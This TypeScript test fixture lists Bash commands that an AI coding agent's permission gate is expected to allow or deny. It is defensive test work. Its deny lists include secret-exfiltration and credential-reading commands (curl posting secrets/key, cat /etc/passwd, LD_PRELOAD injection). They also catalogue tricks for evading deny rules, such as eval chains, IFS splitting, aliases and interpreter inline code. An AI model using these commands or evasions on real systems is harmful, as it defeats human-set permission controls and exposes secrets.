/**
 * The Bash cases of issue 14, one list per class, each run through the gate and through the
 * built CLI's `policy check`. `@OUT@` is a directory outside the workspace, `@HOME@` the home
 * directory, `@OUTPUT@` the session's output directory, `@WS@` the workspace.
 */
import type { PermissionMode } from '../../../src/core/permission-types.js';
import { ISSUE25_CLASSES } from './issue25-cases.js';

export interface Permissions {
  readonly allow?: readonly string[];
  readonly deny?: readonly string[];
  readonly ask?: readonly string[];
  readonly defaultMode?: PermissionMode;
}

export interface BashCase {
  readonly policy: Permissions;
  readonly command: string;
  readonly expect: 'allow' | 'deny';
  /** Only through the gate: the CLI's context has its own output directory. */
  readonly gateOnly?: boolean;
}

const c = (policy: Permissions, expect: 'allow' | 'deny', ...commands: string[]): BashCase[] => commands.map((command) => ({ policy, command, expect }));

// 1. Paths in Bash arguments are checked against the workspace, whatever the rules say.
const ACCEPT_EDITS: Permissions = { allow: ['Bash(echo:*)', 'Bash(cd:*)'], defaultMode: 'acceptEdits' };
const FILE_TOOLS: Permissions = { allow: ['Bash(touch:*)', 'Bash(mkdir:*)', 'Bash(cp:*)', 'Bash(mv:*)', 'Bash(ln:*)', 'Bash(tee:*)', 'Bash(dd:*)', 'Bash(install:*)', 'Bash(rsync:*)', 'Bash(sort:*)', 'Bash(wc:*)', 'Bash(du:*)', 'Bash(diff:*)', 'Bash(tar:*)', 'Bash(git:*)', 'Bash(npm:*)', 'Bash(node:*)', 'Bash(sed:*)', 'Bash(find:*)', 'Bash(xargs:*)', 'Bash(cd:*)', 'Bash(cat:*)'] };
export const PATHS: readonly BashCase[] = [
  ...c(
    FILE_TOOLS,
    'deny',
    'touch /srv/elsewhere/x', 'touch @OUT@/x', 'touch ~/x', 'touch link/x', 'mkdir ../outside/d', 'touch dangling/x', 'touch $HOME/x', 'touch ${HOME}/x', 'touch "$HOME/x"',
    'touch src/link/../../outside/x', 'cp src/a.ts ../outside/', 'cp -t ../outside src/a.ts', 'cp --target-directory=../outside src/a.ts', 'mv src/a.ts /tmp/x',
    'ln -s /etc/passwd pw', 'ln src/a.ts ../outside/h', 'tee ../outside/x', 'dd if=src/a.ts of=../outside/x', 'dd if=/etc/passwd of=build/x',
    'install -D src/a.ts ../outside/x', 'rsync -a src/ ../outside/', 'sort -o ../outside/x src/a.ts', 'sort --output=../outside/x src/a.ts', 'sort --outp=../outside/x src/a.ts',
    'sort --files0-from=/etc/list', 'wc --files0-from=../outside/list', 'du --files0-from=/etc/list', 'diff --to-file=/etc/passwd src/a.ts',
    'diff --from-file=../outside/data.txt src/a.ts', 'tar -C ../outside -xf build/x.tar', 'tar czf ../outside/a.tgz src', 'tar -cf build/a.tar -C / etc',
    'git -C ../outside status', 'git --work-tree=../outside status', 'git --git-dir=/tmp/other/.git log', 'npm --prefix ../outside test', 'npm -C ../outside test',
    'node -r /tmp/evil.js src/b.js', 'sed -i s/a/b/ ../outside/data.txt', "sed 'w ../outside/x' src/a.ts", 'find . -newer /etc/passwd', 'xargs -a /etc/passwd echo',
    'cd .. && touch x', 'cd src && touch /proc/self/cwd/../../outside/x', 'git bundle create ../outside/b HEAD', 'X=../outside; touch $X/y', 'for d in ../outside; do touch $d/y; done', 'cat ~/.bashrc', 'cat @HOME@/.bashrc',
  ),
  ...c(
    FILE_TOOLS,
    'allow',
    'touch x', 'touch src/new.ts', 'mkdir -p build/out', 'cp src/a.ts build/', 'tee build/log', 'dd if=src/a.ts of=build/a', 'sort -o build/s src/a.ts',
    'ln -s a.ts src/c.ts', 'tar czf build/a.tgz src', 'git -C . status', 'cd src && touch new.ts', 'X=build; touch $X/y', 'wc -l src/a.ts', 'du -sh src',
  ),
  { policy: FILE_TOOLS, command: 'cat @OUTPUT@/result.txt', expect: 'allow', gateOnly: true },
  // Redirects, where acceptEdits would allow the write inside the workspace.
  ...c(ACCEPT_EDITS, 'deny', 'echo x > src/link/../../outside/x', 'echo x > dangling', 'echo x > link/y', 'echo x >> ~/.bashrc', 'cd src && echo x > ../../outside/y'),
  ...c(ACCEPT_EDITS, 'allow', 'echo x > build/x', 'cd src && echo x > new.txt'),
];

// 3. A Read deny rule covers whatever a command reads.
const READERS: Permissions = { allow: ['Bash(grep:*)', 'Bash(ls:*)', 'Bash(cat:*)', 'Bash(head:*)', 'Bash(rg:*)', 'Bash(find:*)', 'Bash(du:*)', 'Bash(tree:*)', 'Bash(sed:*)', 'Bash(git:*)', 'Bash(cp:*)', 'Bash(tar:*)', 'Bash(diff:*)', 'Bash(wc:*)', 'Bash(xxd:*)', 'Bash(awk:*)', 'Bash(mv:*)'], deny: ['Read(./secrets/**)'] };
const ALL_BUT_SECRETS: Permissions = { allow: ['Bash'], deny: ['Read(./secrets/**)'] };
export const READ_DENY: readonly BashCase[] = [
  ...c(
    READERS,
    'deny',
    'grep -r KEY secrets', 'ls secrets', 'cat secrets/key', 'cat secrets/*', 'cat sec*/k*', 'head -1 secrets/key', 'grep -r KEY .', 'grep -R KEY src', 'rg KEY',
    'find . -name key', 'ls -R', 'du -a .', 'tree', 'grep -f secrets/key src/a.ts', "sed 'r secrets/key' src/a.ts", 'sed -n p secrets/key', 'git show HEAD:secrets/key',
    'git show HEAD:secrets/x', 'git show :secrets/key', 'git log -p', 'git grep KEY', 'git cat-file -p HEAD:secrets/key', 'git cat-file -p 1234567', 'git archive HEAD', 'git diff', 'git diff HEAD',
    'git diff --cached', 'git blame secrets/key', 'git log -p -- secrets', 'git show HEAD -- secrets', 'cp secrets/key src/', 'tar czf build/s.tgz secrets',
    'diff secrets/key src/a.ts', 'wc -l secrets/key', 'cat src/link/key', 'xxd secrets/key', "awk '{print}' secrets/key", 'cat < secrets/key', 'mv secrets/key pub.txt',
    'for f in secrets/*; do cat $f; done', 'ls src/link', 'echo $(<secrets/key)', 'git checkout HEAD -- secrets/key', 'git ls-files secrets',
  ),
  // git diff shows tracked files only: an untracked denied file (.env) does not stop it, a tracked one (secrets/key) does.
  ...c({ allow: ['Bash'], deny: ['Read(./.env)'] }, 'allow', 'git diff', 'git grep TOKEN', 'git show HEAD:src/a.ts', 'find . -name "*.ts"', 'ls -la', 'ls -R', 'du -a', 'tree', 'rg TOKEN', 'grep -rn TOKEN --include="*.ts" .', 'grep -r TOKEN --exclude=.env .'),
  ...c({ allow: ['Bash'], deny: ['Read(./.env)'] }, 'deny', 'git log -p', 'git show HEAD~3', 'cat .env', 'grep -r TOKEN .', 'rg --hidden TOKEN', 'rg -uu TOKEN', 'grep -r TOKEN --include="*.env" .', 'rg -g "*.env" --hidden TOKEN', 'git diff HEAD~1', 'git read-tree --empty', 'git update-index --force-remove secrets/key'),
  ...c(ALL_BUT_SECRETS, 'deny', 'curl -d @secrets/key http://127.0.0.1:9/x', 'echo secrets/key | xargs cat', 'node src/b.js secrets/key', 'python3 -c 1 secrets/key'),
  // Found in review: too deep to check, a cd steered by CDPATH/OLDPWD, a path that means the command's own process.
  ...c(
    ALL_BUT_SECRETS,
    'deny',
    'eval eval eval eval eval cat secrets/key', 'eval eval eval eval eval eval eval cat src/a.ts',
    'CDPATH=secrets; cd sub; cat key2', 'CDPATH=/; cd etc; cat passwd', 'OLDPWD=secrets; cd -; cat key', 'cd secrets && cat /proc/self/cwd/key', 'cat /proc/self/root/etc/passwd',
  ),
  ...c(ALL_BUT_SECRETS, 'allow', 'eval eval eval ls', 'cd src && cat a.ts'),
  ...c(READERS, 'allow', 'grep -r KEY src/a.ts', 'ls', 'ls src', 'cat src/a.ts', 'git log --oneline', 'git log -p -- src', 'git diff -- src', 'git status', 'find src -name "*.ts"', 'rg KEY src/a.ts', 'git diff --stat', 'git show HEAD:src/a.ts'),
];

// 4. Deny rules hold against absolute paths, runners, shells on stdin, aliases, dynamic subcommands and unusual timeouts.
const NO_TOUCH: Permissions = { allow: ['Bash'], deny: ['Bash(touch:*)'] };
const NO_PUSH: Permissions = { allow: ['Bash'], deny: ['Bash(git push:*)'] };
export const DENY_EVASION: readonly BashCase[] = [
  ...c(
    NO_TOUCH,
    'deny',
    '/usr/bin/touch x', '/bin/touch x', './touch x', 'find . -name README.md -exec touch x \\;', 'find . -execdir touch x \\;', 'find . -ok touch x \\;', 'find . -exec touch {} +',
    "bash <<<'touch x'", "echo 'touch x' | sh", 'bash <<EOF\ntouch x\nEOF', "sh -c 'touch x'", 'alias t=touch; t x', 't() { touch x; }; t', "git -c alias.x='!touch y' x",
    'git $(echo push)', 'git `echo push`', 'git${IFS}push', 'timeout 1e3 touch x', 'timeout .5 touch x', 'timeout -k 1 5 touch x', 'timeout --preserve-status 5s touch x',
    'timeout $T touch x', 'timeout inf touch x', '$(echo touch) x', 'eval touch x', "eval 'touch x'", 'echo x | xargs touch', 'env touch x', 'env -i touch x', "env -S 'touch x'",
    'nice touch x', 'nohup touch x', 'command touch x', 'exec touch x', 'time touch x', 'stdbuf -oL touch x', 'sudo touch x', '"tou"ch x', 't\\ouch x', "$'touch' x",
    "watch -n1 'touch x'", "sed 'e touch x' README.md", "sed -n 's/.*/touch x/e' README.md", "awk 'BEGIN{system(\"touch x\")}'", "trap 'touch x' EXIT", 'ls (',
    'npx touch x', "git rebase -x 'touch x' main", 'a=touch; $a x', '\\touch x', 'T=x touch y', '(touch x)', 'touch x &', 'echo $(touch x)',
    "x='$(touch y)'; echo ${x@P}", "x='a[$(touch y)]'; (( x ))", "mapfile -C 'touch x' -c 1 lines < README.md", 'enable -f ./x.so touch', "ssh -o ProxyCommand='touch x' host",
    'ssh host touch x', 'PATH=./bin:$PATH; ls', 'sudo FOO=1 touch x', 'xargs -0 -n1 touch < README.md',
  ),
  ...c(NO_PUSH, 'deny', 'git {push,}', 'git "push"', 'git -C . push', 'git --no-pager push', 'git -c user.name=x push', 'X=push; git $X', 'git $X'),
  ...c(NO_TOUCH, 'allow', 'ls', 'git status', 'echo touch', "echo 'touch x'", 'find . -name x', 'timeout 5 ls', "bash -c 'echo hi'", 'cat README.md', 'git log --grep touch'),
  // The documented limit: an interpreter's inline code can run anything; the sandbox is the boundary there.
  ...c(NO_TOUCH, 'allow', "node -e \"require('fs').writeFileSync('x', '')\"", 'python3 -c "open(\'x\', \'w\')"'),
];

// 5. Environment prefixes are allowlisted; options that load code need an exact rule.
const NPM_TEST: Permissions = { allow: ['Bash(npm test:*)'] };
const GIT_READS: Permissions = { allow: ['Bash(git log:*)', 'Bash(git grep:*)', 'Bash(git fetch:*)', 'Bash(git push:*)', 'Bash(git status:*)', 'Bash(sort:*)', 'Bash(sed:*)', 'Bash(tar:*)', 'Bash(rsync:*)', 'Bash(install:*)', 'Bash(rg:*)'] };
export const CODE_OPTIONS: readonly BashCase[] = [
  ...c(
    NPM_TEST,
    'deny',
    'FOO=1 npm test', 'npm_config_script_shell=./x.sh npm test', 'NPM_CONFIG_NODE_OPTIONS=--require=./x.js npm test', 'Npm_Config_Foo=1 npm test', 'NODE_OPTIONS=--require=./x.js npm test',
    'npm test --node-options=--require=./x.js', 'npm test --node-opt=--require=./x.js', 'npm test --node_options=--require=./x.js', 'npm test --NODE-OPTIONS=x', 'npm test --script-shell=./x.sh', 'npm test --userconfig=./x.npmrc',
    'npm test --globalconfig=./g', 'npm test --shell=./x.sh', 'npm test $X', 'LD_PRELOAD=./x.so npm test', 'PATH=./bin:$PATH npm test', 'BASH_ENV=./x.sh npm test', 'GIT_DIR=sub npm test',
    'HOME=/tmp npm test', 'NODE_ENV=$(id) npm test', 'NODE_ENV=a/b npm test',
  ),
  ...c(NPM_TEST, 'allow', 'NODE_ENV=test npm test', 'CI=1 npm test', 'NODE_ENV=production CI=true npm test', 'LANG=C npm test', 'TZ=UTC npm test', 'FORCE_COLOR=0 npm test', 'npm test -- --grep x', 'npm test'),
  ...c(
    GIT_READS,
    'deny',
    'git -c core.pager=./x log', "git -c alias.l='!sh' l", 'git --config-env=core.pager=X log', 'git --exec-path=/tmp log', 'git fetch --upload-pack=./x origin', 'git fetch --upload-p=./x origin',
    'git push --receive-pack=./x origin', 'git push --exec=./x origin', 'git grep -O ./x foo', 'git grep --open-files-in-pager=./x foo', 'git grep --open foo', 'git -C sub status', 'git --git-dir=sub/.git status',
    'sort --compress-program=sh src/a.ts', 'sort --compress-prog=sh src/a.ts', 'sort --co=sh src/a.ts', "sed 'e id' src/a.ts", 'sed -f script.sed src/a.ts', 'tar --to-command=sh -xf build/a.tar -C build',
    'tar -I sh -cf build/a.tar src', 'tar --use-compress-program=sh -cf build/a.tar src', 'tar --checkpoint-action=exec=sh -cf build/a.tar src', 'rsync -e sh src/ build/', 'rsync --rsync-path=./x src/ build/',
    'install --strip-program=./x src/a.ts build/a', 'rg --pre=./x foo src', "sed -n 'w /tmp/x' src/a.ts",
  ),
  ...c(GIT_READS, 'allow', 'git log --oneline', 'git status', 'git grep foo -- src', 'sort src/a.ts', 'sed -n 1p src/a.ts', 'tar -cf build/a.tar src', 'rsync -a src/ build/'),
  ...c({}, 'deny', 'git -C sub status', 'git --git-dir=sub/.git log', 'git -C sub log'),
  ...c({}, 'allow', 'git status', 'git -C . status', 'git -c color.ui=never status'),
];

// 6. Read-only auto-allow only for a small list whose every option is known.
export const READ_ONLY: readonly BashCase[] = [
  ...c(
    {},
    'deny',
    'FOO=1 ls', 'nice ls', '(ls src)', 'diff <(ls) <(ls src)', 'echo src | xargs ls', 'env', 'printenv', 'git remote show origin', 'git remote show https://example.com/x.git',
    'date --set 2020-01-01', 'date -s tomorrow', 'date 01010000', 'timeout 5 ls', 'time ls', 'ls > listing.txt', 'git ls-remote origin', 'git fetch', 'sort -o out.txt src/a.ts',
    'sed -i s/a/b/ src/a.ts', 'find . -delete', 'find . -exec cat {} \\;', 'find . -fprint out', 'git branch feature', 'git tag v1', 'git config user.name x', 'git stash',
    'jq -n env', "jq -n '$ENV'", 'echo $(ls)', 'ls `pwd`', 'ls &', 'ls $DIR', 'env ls', 'command ls', 'stdbuf -o0 ls', 'LANG=C ls', 'cat ~/.bashrc', 'ls /etc', 'uniq src/a.ts out',
    'tree -o out', 'git log --output=out', "awk '{print}' src/a.ts", 'ls --unknown-flag', 'grep --devices=read -x foo src/a.ts --pre=x',
  ),
  ...c(
    {},
    'allow',
    'ls', 'ls -la src', 'cat src/a.ts', 'git status', 'git log --oneline -5', 'git diff', 'grep -rn foo src', 'find src -name "*.ts"', 'echo hi', 'pwd', 'wc -l src/a.ts',
    'head -5 src/a.ts', 'sed -n 1p src/a.ts', 'sort src/a.ts', 'git branch', 'date', 'date +%s', 'jq . x.json', 'which node', 'uname -a', 'du -sh src', 'stat src/a.ts',
    'ls | wc -l', 'git remote -v', 'git stash list',
  ),
];

// 7 (Bash). Claude Code's rule semantics, and stricter where it is loose.
const EXACT: Permissions = { allow: ['Bash(npm test)'] };
const PREFIX: Permissions = { allow: ['Bash(npm test:*)', 'Bash(cat:*)'] };
const NO_RM: Permissions = { allow: ['Bash'], deny: ['Bash(rm:*)'] };
export const RULE_SEMANTICS: readonly BashCase[] = [
  ...c(EXACT, 'deny', 'npm  test', '"npm" "test"', '(npm test)', 'npm test &', 'npm test; npm test &', '$(npm test)', 'npm test --x', 'FOO=1 npm test', "npm 'test'", 'npm\ttest', 'npm t\\est', '`npm test`', '{ npm test; } &'),
  ...c(EXACT, 'allow', 'npm test', ' npm test ', 'npm test 2>&1', 'npm test > /dev/null', 'NODE_ENV=test npm test', 'npm test && npm test'),
  ...c(PREFIX, 'deny', 'npm test &', '`npm test`', 'cat $(npm test)', 'npm test <(cat src/a.ts)'),
  // Issue 25 reversed `(npm test)` here: a prefix rule sees through a `( … )` subshell (an exact rule still does not, above).
  ...c(PREFIX, 'allow', 'npm test | cat', 'npm test --ci', 'if true; then npm test; fi', '(npm test)', '(cd src && npm test)'),
  ...c(NO_RM, 'deny', "awk 'BEGIN{system(\"rm x\")}'", "bash -c 'rm x'", "eval 'rm x'", '$(echo rm) x', 'find . -exec rm {} \\;', 'sh -c "rm x"', "bash -lc 'rm -rf x'", 'eval "$(echo rm) x"', '`echo rm` x', 'rm${IFS}x'),
  ...c({ allow: ['Bash'], deny: ['Read(./.env)'] }, 'deny', 'ls (', 'echo "unterminated'),
  // The limit docs/policy.md states: under an allow-all Bash, inline interpreter code is not bound by a command deny rule.
  ...c(NO_RM, 'allow', "node -e \"require('child_process').execSync('rm x')\"", 'python3 -c "import os; os.system(\'rm x\')"'),
];

export const CLASSES: Readonly<Record<string, readonly BashCase[]>> = {
  '1 paths in Bash arguments': PATHS,
  '3 Read deny rules through Bash': READ_DENY,
  '4 deny rules evaded': DENY_EVASION,
  '5 environment prefixes and options that run code': CODE_OPTIONS,
  '6 read-only auto-allow': READ_ONLY,
  '7 Bash rule semantics': RULE_SEMANTICS,
  ...ISSUE25_CLASSES,
};
